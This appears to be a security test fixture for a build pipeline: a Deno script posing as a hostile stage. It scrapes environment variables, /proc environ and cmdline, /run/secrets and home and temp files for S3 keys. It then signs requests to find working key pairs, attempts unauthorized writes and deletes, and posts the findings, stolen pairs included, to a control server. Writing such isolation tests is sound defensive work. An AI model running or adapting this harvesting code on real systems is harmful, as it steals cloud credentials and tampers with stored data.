/**
 * A hostile stage command (run by deno inside a worker; Web APIs only, no imports). It reads
 * every environment variable and file it can reach — its own environment, /proc/<pid>/environ
 * and cmdline of every process (its worker's among them), /run/secrets/*, files named by
 * `*_FILE` variables, its home, srv, temp and stage dirs — collects everything shaped like an
 * S3 access key (20 × [A-Z0-9]) or secret key (40 × [A-Za-z0-9]), finds which pairs the relay
 * accepts, and tries to write outside its outputs with each of them (and with none).
 *
 * The relay address comes from the test's control server (`GP_HOSTILE_CONTROL=host:port`,
 * `GET /target`): the attacker is assumed to know it. The report goes to `POST /report`.
 *
 * @module
 */

const control = Deno.env.get("GP_HOSTILE_CONTROL");
if (!control) throw new Error("GP_HOSTILE_CONTROL is not set");
const deadline = Date.now() + 40_000;
const enc = new TextEncoder();
const hex = (b: Uint8Array) => [...b].map((x) => x.toString(16).padStart(2, "0")).join("");

async function poll(path: string): Promise<string> {
  for (let i = 0; i < 600 && Date.now() < deadline + 80_000; i++) {
    try {
      const r = await fetch(`http://${control}${path}`, { signal: AbortSignal.timeout(2000) });
      if (r.ok) return await r.text();
      await r.body?.cancel();
    } catch { /* not yet */ }
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(`control ${path}: no answer`);
}

const accessKeys = new Set<string>();
const secretKeys = new Set<string>();
const report = {
  ancestors: [] as { pid: number; cmd: string; environ: string }[],
  runSecrets: [] as { name: string; size: number }[],
  fileVars: [] as string[],
  filesRead: 0,
  procsRead: 0,
  accessKeys: 0,
  secretKeys: 0,
  validPairs: [] as string[],
  attempts: [] as { what: string; who: string; status: number }[],
  loot: [] as { ak: string; sk: string }[],
};

function harvest(text: string) {
  for (const m of text.matchAll(/(?<![A-Za-z0-9])[A-Z0-9]{20}(?![A-Za-z0-9])/g)) {
    accessKeys.add(m[0]);
  }
  for (const m of text.matchAll(/(?<![A-Za-z0-9])[A-Za-z0-9]{40}(?![A-Za-z0-9])/g)) {
    secretKeys.add(m[0]);
  }
}

function readText(path: string, max = 256 * 1024): string | undefined {
  try {
    const st = Deno.statSync(path);
    if (!st.isFile || st.size > max) return undefined;
    return new TextDecoder().decode(Deno.readFileSync(path));
  } catch {
    return undefined;
  }
}

// 1. Our own environment and every *_FILE it names.
for (const [k, v] of Object.entries(Deno.env.toObject())) {
  harvest(`${k}=${v}`);
  if (k.endsWith("_FILE")) {
    report.fileVars.push(k);
    const t = readText(v);
    if (t) harvest(t);
  }
}

// 2. Every process: environ and cmdline. Our ancestors (the worker among them) are recorded.
const ancestors = new Set<number>();
{
  let pid = Deno.pid;
  for (let i = 0; i < 12 && pid > 1; i++) {
    try {
      const stat = Deno.readTextFileSync(`/proc/${pid}/stat`);
      pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
      if (pid >= 1) ancestors.add(pid); // pid 1: the worker, in a container
    } catch {
      break;
    }
  }
}
for (const e of Deno.readDirSync("/proc")) {
  if (!/^\d+$/.test(e.name) || Date.now() > deadline) continue;
  const pid = Number(e.name);
  let environ = "denied";
  try {
    harvest(Deno.readTextFileSync(`/proc/${pid}/environ`).replaceAll("\0", "\n"));
    environ = "readable";
    report.procsRead++;
  } catch { /* not ours to read */ }
  let cmd = "";
  try {
    cmd = Deno.readTextFileSync(`/proc/${pid}/cmdline`).replaceAll("\0", " ");
    harvest(cmd);
  } catch { /* gone */ }
  if (ancestors.has(pid)) report.ancestors.push({ pid, cmd: cmd.slice(0, 120), environ });
}

// 3. /run/secrets and every directory a stage can think of.
try {
  for (const e of Deno.readDirSync("/run/secrets")) {
    const p = `/run/secrets/${e.name}`;
    try {
      const st = Deno.statSync(p);
      report.runSecrets.push({ name: e.name, size: st.size });
    } catch { /* unreadable */ }
    const t = readText(p);
    if (t) harvest(t);
  }
} catch { /* no /run/secrets */ }

function walk(dir: string, depth: number) {
  if (depth < 0 || report.filesRead > 3000 || Date.now() > deadline) return;
  let entries: Deno.DirEntry[];
  try {
    entries = [...Deno.readDirSync(dir)];
  } catch {
    return;
  }
  for (const e of entries) {
    const p = `${dir === "/" ? "" : dir}/${e.name}`;
    if (e.isDirectory && !e.isSymlink) {
      if (p === "/proc" || p === "/sys" || p === "/dev" || p.endsWith("/deno")) continue;
      walk(p, depth - 1);
    } else if (e.isFile) {
      const t = readText(p);
      if (t !== undefined) {
        report.filesRead++;
        harvest(t);
      }
    }
  }
}
const cwd = Deno.cwd();
const parent = (() => {
  try {
    return Deno.realPathSync(`${cwd}/..`);
  } catch {
    return "/";
  }
})();
for (
  const d of [
    Deno.env.get("HOME"),
    cwd,
    parent === "/" ? undefined : parent, // the local backend's stage dir
    Deno.env.get("TMPDIR"),
    "/run",
    "/var/run/secrets",
    "/etc/gangplank",
  ]
) {
  if (d) walk(d, 4);
}
report.accessKeys = accessKeys.size;
report.secretKeys = secretKeys.size;

// 4. Sign like an S3 client (SigV4, UNSIGNED-PAYLOAD) and try.
const target = (await poll("/target")).trim();
async function hmac(key: Uint8Array<ArrayBuffer>, data: string): Promise<Uint8Array<ArrayBuffer>> {
  const k = await crypto.subtle.importKey(
    "raw",
    key,
    { name: "HMAC", hash: "SHA-256" },
    false,
    ["sign"],
  );
  return new Uint8Array(await crypto.subtle.sign("HMAC", k, enc.encode(data)));
}
async function s3(
  method: string,
  path: string,
  pair?: { ak: string; sk: string },
  body?: string,
): Promise<number> {
  const url = `http://${target}${path}`;
  const headers: Record<string, string> = {};
  if (pair) {
    const amz = new Date().toISOString().replace(/[-:]|\.\d{3}/g, "");
    const day = amz.slice(0, 8);
    const scope = `${day}/us-east-1/s3/aws4_request`;
    const signed = "host;x-amz-content-sha256;x-amz-date";
    const canon = [
      method,
      path,
      "",
      `host:${target}\nx-amz-content-sha256:UNSIGNED-PAYLOAD\nx-amz-date:${amz}\n`,
      signed,
      "UNSIGNED-PAYLOAD",
    ].join("\n");
    const digest = hex(new Uint8Array(await crypto.subtle.digest("SHA-256", enc.encode(canon))));
    let k = await hmac(enc.encode(`AWS4${pair.sk}`), day);
    for (const part of ["us-east-1", "s3", "aws4_request"]) k = await hmac(k, part);
    const sig = hex(await hmac(k, ["AWS4-HMAC-SHA256", amz, scope, digest].join("\n")));
    headers["x-amz-date"] = amz;
    headers["x-amz-content-sha256"] = "UNSIGNED-PAYLOAD";
    headers.authorization =
      `AWS4-HMAC-SHA256 Credential=${pair.ak}/${scope}, SignedHeaders=${signed}, Signature=${sig}`;
  }
  try {
    const r = await fetch(url, { method, headers, body, signal: AbortSignal.timeout(5000) });
    await r.body?.cancel();
    return r.status;
  } catch {
    return 0;
  }
}

// Which pairs does the relay accept at all (HEAD of the job bucket)?
const pairs: { ak: string; sk: string }[] = [];
outer: for (const ak of accessKeys) {
  for (const sk of secretKeys) {
    if (pairs.length >= 5000) break outer;
    pairs.push({ ak, sk });
  }
}
for (const p of pairs) {
  if (Date.now() > deadline + 20_000) break;
  const st = await s3("HEAD", "/builder", p);
  if (st >= 200 && st < 300) report.validPairs.push(p.ak);
}
report.loot = pairs.filter((p) => report.validPairs.includes(p.ak)).slice(0, 20);

const who = (p?: { ak: string }) => (p ? p.ak.slice(0, 4) + "…" : "anonymous");
for (const p of [undefined, ...report.loot]) {
  const tries: [string, string, string?][] = [
    ["PUT", "/builder/pwned-by-stage.txt", "pwned"],
    ["PUT", "/builder/builds.json", '{"builds":[]}'],
    ["PUT", "/logs/pwned-by-stage.txt", "pwned"],
    ["PUT", "/pwnedbucket"],
    ["DELETE", "/builder/builds.json"],
  ];
  for (const [method, path, body] of tries) {
    report.attempts.push({
      what: `${method} ${path}`,
      who: who(p),
      status: await s3(method, path, p, body),
    });
  }
}

await fetch(`http://${control}/report`, {
  method: "POST",
  body: JSON.stringify(report),
  signal: AbortSignal.timeout(5000),
}).then((r) => r.body?.cancel());
console.log(
  `hostile stage: ${report.attempts.length} attempts, ${report.validPairs.length} valid pair(s)`,
);
